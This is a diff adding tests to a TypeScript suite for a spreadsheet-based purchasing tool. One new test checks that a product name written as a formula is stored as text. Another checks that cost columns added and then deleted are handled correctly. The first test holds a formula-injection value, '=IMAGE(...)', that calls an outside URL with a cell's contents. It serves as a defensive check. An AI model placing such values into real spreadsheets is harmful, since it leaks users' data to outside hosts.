@@ -90,6 +90,19 @@ describe('500 rows with costs', () => {
   }, 120_000);
 });
 
+describe('a shopping list', () => {
+  it('has names that look like formulas as texts, as a supplier may write anything', async () => {
+    const { world, sheet } = await desk([HEADERS, ...offers(8)]);
+    const [buy] = buysOf(await decided(world));
+    if (buy === undefined) throw new Error('There is no Buy.');
+    const name = '=IMAGE("https://example.com/?"&A2)';
+    const tab = granted(await world.rpc('deals.tab', shoppingTab([{ ...buy, name }])));
+    const cell = areaOf(2, 2);
+    expect(sheet.grid.values(Number(tab.sheetId), cell)).toEqual([[name]]);
+    expect(sheet.grid.formulas(Number(tab.sheetId), cell)).toEqual([['']]);
+  });
+});
+
 describe('decisions', () => {
   it('follow an edited cost, without a call and without a script', async () => {
     const { sheet } = await desk();
@@ -457,6 +470,19 @@ describe('columns of costs', () => {
     const { look } = await lookAt(world);
     expect(look.costsInUse?.cost?.title).toBe('Cost');
     expect(look.columns.map(({ title }) => title)).toEqual(HEADERS.slice(1));
+  });
+
+  it('that come later are read by the same decisions, written anew', async () => {
+    const { world, sheet } = await desk([['ASIN', 'Title', 'Pack cost'], ...offers(3)]);
+    const [before, cost] = [sheet.decision(2), Number(sheet.values()[1]?.[2])];
+    const column = (sheet.values()[0]?.length ?? 0) + 1;
+    sheet.type(1, column, 'Pack size');
+    sheet.type(2, column, 4);
+    expect(granted(await decide(world))).toMatchObject({ kept: 0, added: [] });
+    expect(sheet.decision(2)['Landed cost']).toBeCloseTo(cost / 4);
+    sheet.people({ do: 'deleteColumns', sheetId: sheet.id, first: column, count: 1 });
+    expect(granted(await decide(world))).toMatchObject({ kept: 0, added: [] });
+    expect(sheet.decision(2)).toEqual(before);
   });
 
   it('stay those of the decisions when they are renamed and moved', async () => {
